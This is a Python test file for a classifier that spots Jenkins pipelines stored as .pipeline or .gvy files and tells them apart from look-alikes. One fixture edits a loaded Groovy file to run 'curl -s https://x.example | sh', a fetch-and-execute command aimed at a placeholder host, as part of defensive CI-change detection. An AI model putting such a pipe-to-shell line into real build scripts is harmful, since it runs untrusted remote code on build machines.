"""Jenkins pipelines under other names (issue 12, the classes56 round).

A Jenkins job's "script path" may name any file, and Groovy has two extensions: a declarative or scripted pipeline kept
as `jobs/release.pipeline` or `build/deploy.gvy` is the pipeline's definition (`ci.content.jenkins-pipeline`, the shape
`.groovy` files already had), and a file a Jenkinsfile loads with `load "lib/deploy.gvy"` runs inside the pipeline
(`ci.context.ci-run` with `--tree`, as `load "x.groovy"` already was). Look-alikes keep their class: kitty's shader
`*.pipeline` files, a plain Groovy class in a `.gvy` file, a `.pipeline` file of another tool. Real repositories,
from the commits and from the patch.
"""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from tests.gitrepo import GitRepo
from tests.test_classify_context import patch_files, tree_files

DECLARATIVE = ("pipeline {\n  agent { label 'linux' }\n  stages {\n    stage('Release') {\n      steps {\n"
               "        sh './gradlew publish'\n      }\n    }\n  }\n}\n")
SCRIPTED = "node('linux') {\n  stage('Deploy') {\n    sh 'kubectl apply -f k8s/'\n  }\n}\n"
LOADABLE = "def deploy() {\n  sh 'kubectl apply -f k8s/'\n}\nreturn this\n"
SHADER = "var float4 TINT = float4(0, 0.8, 0.6, 1)\n\nstartgroup\n    shaders crt\nendgroup\n"
GROOVY_CLASS = "package app\n\nclass Greeter {\n  String greet(String who) { \"hello ${who}\" }\n}\n"
OTHER_TOOL = "stages:\n  - name: fetch\n    run: fetch.py\n  - name: train\n    run: train.py\n"


def _commit(repo: GitRepo, files: dict[str, str]) -> None:
    repo.write("README.md", "x\n")
    repo.commit("base")
    for path, text in files.items():
        repo.write(path, text)
    repo.commit("head")


@each_case("path, text", [(path, text)
           for path in ["jobs/release.pipeline", "build/deploy.gvy", "Release.PIPELINE", "tools/x.GVY"]
           for text in [DECLARATIVE, SCRIPTED]])
def test_a_pipeline_under_another_name_is_ci(git_repo: GitRepo, tmp_path: Path, path: str, text: str) -> None:
    _commit(git_repo, {path: text})
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        assert (files[path].bucket, files[path].rule) == ("ci", "ci.content.jenkins-pipeline"), files[path]


@each_case(("path", "text"), [
    ("kitty/shaders/custom/crt-blue.pipeline", SHADER), ("src/main/groovy/app/Greeter.gvy", GROOVY_CLASS),
    ("ml/train.pipeline", OTHER_TOOL)])
def test_look_alikes_keep_their_class(git_repo: GitRepo, tmp_path: Path, path: str, text: str) -> None:
    _commit(git_repo, {path: text})
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        assert files[path].bucket == "src", files[path]


@each_case("form", ['load "lib/deploy.gvy"', "load('lib/deploy.gvy')", 'def d = load "lib/deploy.gvy"'])
def test_a_file_a_jenkinsfile_loads_is_ci_with_the_tree(git_repo: GitRepo, form: str) -> None:
    git_repo.write("Jenkinsfile", f"node {{\n  {form}\n  stage('b') {{ sh 'make' }}\n}}\n")
    git_repo.write("lib/deploy.gvy", LOADABLE)
    git_repo.commit("base")
    git_repo.write("lib/deploy.gvy", LOADABLE.replace("kubectl apply -f k8s/", "curl -s https://x.example | sh"))
    git_repo.commit("head")
    found = tree_files(git_repo)["lib/deploy.gvy"]
    assert found.bucket == "ci", found


def test_an_unloaded_gvy_file_stays_src(git_repo: GitRepo) -> None:
    git_repo.write("Jenkinsfile", "node {\n  stage('b') { sh 'make' }\n}\n")
    git_repo.write("lib/deploy.gvy", LOADABLE)
    git_repo.commit("base")
    git_repo.write("lib/deploy.gvy", LOADABLE + "// edited\n")
    git_repo.commit("head")
    assert tree_files(git_repo)["lib/deploy.gvy"].bucket == "src"
